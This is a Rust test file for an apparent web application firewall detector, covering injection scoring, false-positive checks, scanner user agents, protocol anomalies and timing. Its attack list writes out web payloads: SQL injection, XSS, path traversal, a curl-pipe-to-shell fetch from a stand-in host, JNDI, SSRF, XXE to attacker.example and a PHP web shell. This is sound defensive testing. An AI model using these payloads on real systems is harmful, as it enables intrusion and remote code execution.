use super::*;

fn detection() -> Detection {
    Detection {
        threshold: 5,
        modes: [Some(Mode::Enforce); 7],
        rules: [RuleId(0); 7],
        headers: vec!["referer".into()],
        engines: Engines::shared().unwrap(),
        crs: None,
    }
}

fn rules_of(raw: &str, loc: Location) -> Vec<&'static str> {
    let d = detection();
    let mut out = Findings::default();
    d.value(raw.as_bytes(), false, loc, &mut Vec::new(), &mut out);
    out.list.iter().map(|f| f.rule).collect()
}

fn score(raw: &str) -> u32 {
    let d = detection();
    let mut out = Findings::default();
    d.value(
        raw.as_bytes(),
        false,
        Location::Value,
        &mut Vec::new(),
        &mut out,
    );
    out.score(|_| true)
}

#[test]
fn attacks_score_at_least_the_default_threshold() {
    for a in [
        "1' OR '1'='1",
        "or 1=1",
        "1 UNION SELECT NULL,NULL--",
        "1/**/UnIoN/**/SeLeCt/**/1,2",
        "%2527%2520or%25201%253D1--",
        "1 waitfor delay '0:0:5'",
        "'; EXEC xp_cmdshell('dir')--",
        "password[$ne]=x",
        "<script>alert(1)</script>",
        "＜ｓｃｒｉｐｔ＞alert(1)",
        "\"><svg onload=alert(1)>",
        "java%09script:alert(1)",
        "&#106;avascript&#58;alert(1)",
        "../../etc/passwd",
        "..%c0%af..%c0%afetc/passwd",
        "php://filter/convert.base64-encode/resource=index.php",
        "; cat /etc/passwd",
        "| id",
        "`whoami`",
        "$(curl http://x.example/s.sh|sh)",
        "a;w'h'o'am'i",
        "${jndi:ldap://x.example/a}",
        "http://169.254.169.254/latest/meta-data/",
        "http://0x7f000001/",
        "gopher://127.0.0.1:6379/_",
        "*)(uid=*))(|(uid=*",
        "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY x SYSTEM \"http://attacker.example/x\">]><d>&x;</d>",
        "<!--#exec cmd=\"id\" -->",
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "<?php system($_GET['c']); ?>",
        "1&#x27; OR &#x27;1&#x27;=&#x27;1",
        "\\u0027 OR 1=1--",
    ] {
        assert!(score(a) >= 5, "{a}: {:?}", rules_of(a, Location::Value));
    }
}

#[test]
fn awkward_legitimate_values_score_nothing() {
    for b in [
        "O'Brien",
        "select trim",
        "I'd like to select the trim from the list",
        "rock 'n' roll | jazz",
        "cat & dog friendly",
        "12 Main St., Apt #4",
        "It's great -- really",
        "Dear sir; I want a 4-door car (red) or blue",
        "from 9 to 5; or later",
        "{\"note\": \"don't\"}",
        "1HGCM82633A004352",
        "https://www.example.com/brochure.pdf",
        "a < b and c > d",
        "50% off",
        "Order by date",
        "Table for 2",
        "so...",
        "ls 400 (model)",
        "+44 (0)20 7946 0958",
        "Customer's car: 'Blue' -- see file",
        "intermittent fault; ECU code P0301 & P0302",
        "20\" wheels",
        "Hello {{first_name}}, your car is ready",
        "price: ${amount} incl. VAT",
        "Tom &amp; Jerry; rock &amp; roll",
        "rear bumper (see photo)(2)",
        "<b>Note</b>: 5 < 6",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
        "YWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXo+Lz0=",
        "https://www.example.com/search?q=select+trim&sort=price,desc&page=2#results",
    ] {
        assert_eq!(score(b), 0, "{b}: {:?}", rules_of(b, Location::Value));
    }
}

#[test]
fn scanners_and_missing_user_agents() {
    assert_eq!(
        rules_of(
            "sqlmap/1.7.2#stable (https://sqlmap.org)",
            Location::UserAgent
        ),
        ["scanner-user-agent"]
    );
    let browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36";
    assert!(rules_of(browser, Location::UserAgent).is_empty());
    let d = detection();
    let headers = vec![
        (":method".to_string(), b"GET".to_vec()),
        (":path".to_string(), b"/".to_vec()),
    ];
    let mut f = Findings::default();
    d.inspect_head(&Request::from_headers(&headers, None), &mut f);
    assert_eq!(
        f.list.iter().map(|f| f.rule).collect::<Vec<_>>(),
        ["scanner-no-user-agent"]
    );
    assert_eq!(d.judge(5, &f, &[]), None, "a notice alone does not refuse");
}

#[test]
fn protocol_anomalies() {
    let d = detection();
    let h = |pairs: &[(&str, &str)]| -> Vec<(String, Vec<u8>)> {
        pairs
            .iter()
            .map(|(k, v)| (k.to_string(), v.as_bytes().to_vec()))
            .collect()
    };
    let headers = h(&[
        (":method", "POST"),
        (":path", "/x?a=%0d%0aSet-Cookie:x"),
        ("user-agent", "t"),
        ("content-length", "5"),
        ("transfer-encoding", "chunked"),
    ]);
    let mut f = Findings::default();
    d.inspect_head(&Request::from_headers(&headers, None), &mut f);
    let rules: Vec<_> = f.list.iter().map(|f| f.rule).collect();
    assert!(rules.contains(&"protocol-cl-te"), "{rules:?}");
    let headers = h(&[
        (":method", "GET"),
        (":path", "/x"),
        ("user-agent", "t"),
        ("content-length", "4"),
    ]);
    let mut f = Findings::default();
    d.inspect_head(&Request::from_headers(&headers, None), &mut f);
    assert_eq!(f.score(|_| true), 3, "{f:?}");
}

#[test]
fn judging_by_mode_and_threshold() {
    let mut d = detection();
    let mut f = Findings::default();
    f.add(Class::Xss, "xss-js-sink", Severity::Warning);
    f.add(Class::Sqli, "sqli-boolean", Severity::Error);
    // Both count twice only once per rule.
    f.add(Class::Xss, "xss-js-sink", Severity::Warning);
    let got = d.judge(5, &f, &[]).unwrap();
    assert_eq!((got.mode, got.score), (Mode::Enforce, 7));
    assert_eq!(got.classes, [Class::Sqli, Class::Xss]);
    assert_eq!(d.judge(8, &f, &[]), None);
    d.modes[Class::Sqli as usize] = Some(Mode::Shadow);
    let got = d.judge(5, &f, &[]).unwrap();
    assert_eq!((got.mode, got.score), (Mode::Shadow, 7));
    d.modes[Class::Sqli as usize] = None;
    assert_eq!(d.judge(5, &f, &[]), None, "an off class does not count");
}

#[test]
fn json_bodies_are_read_string_by_string() {
    let d = detection();
    let mut f = Findings::default();
    let body = br#"{"name":"O'Brien","notes":["fine", {"$where": "sleep(1000)"}]}"#;
    d.inspect_body(body, Some(b"application/json"), None, &mut f);
    let rules: Vec<_> = f.list.iter().map(|f| f.rule).collect();
    assert!(rules.contains(&"nosql-operator"), "{rules:?}");
    let mut f = Findings::default();
    d.inspect_body(
        b"comment=select+trim&name=O%27Brien",
        Some(b"application/x-www-form-urlencoded"),
        None,
        &mut f,
    );
    assert!(f.is_empty(), "{f:?}");
}

#[test]
fn linear_on_hostile_shapes() {
    // Shapes that make a naive scanner quadratic: runs of separators, dots, colons, tags.
    let d = detection();
    for unit in [
        ";", "..", ":", "<a", "on", "${", "/*", "'", "%25", "&#", "//", "a://@", "\\u", ";{",
        "(select",
    ] {
        let small = unit.repeat(2_000);
        let big = unit.repeat(128_000);
        // The fastest of repeated runs (at least three, and 50 ms of them).
        let time = |s: &str| {
            let started = std::time::Instant::now();
            let mut best = std::time::Duration::MAX;
            let mut runs = 0;
            while runs < 3 || (started.elapsed().as_millis() < 50 && runs < 10_000) {
                let t = std::time::Instant::now();
                let mut f = Findings::default();
                d.value(
                    s.as_bytes(),
                    false,
                    Location::Value,
                    &mut Vec::new(),
                    &mut f,
                );
                best = best.min(t.elapsed());
                runs += 1;
            }
            best
        };
        // 64 times the input: linear work takes about 64 times as long; allow 1.5 times that
        // (n^1.1 would take 97 times, n^1.5 512, n² 4,096). Tests run beside this one on two
        // cores and slow the longer run more: over the bound, it is measured again (up to four
        // times) and the best growth counts; superlinear work is over it every time.
        let (mut a, mut b, mut growth) = (Default::default(), Default::default(), f64::MAX);
        for _ in 0..4 {
            let (x, y) = (time(&small), time(&big));
            let g = y.as_secs_f64() / x.as_secs_f64().max(1e-9);
            if g < growth {
                (a, b, growth) = (x, y, g);
            }
            if growth < 96.0 {
                break;
            }
        }
        assert!(growth < 96.0, "{unit}: {a:?} vs {b:?} ({growth:.1} times)");
    }
}
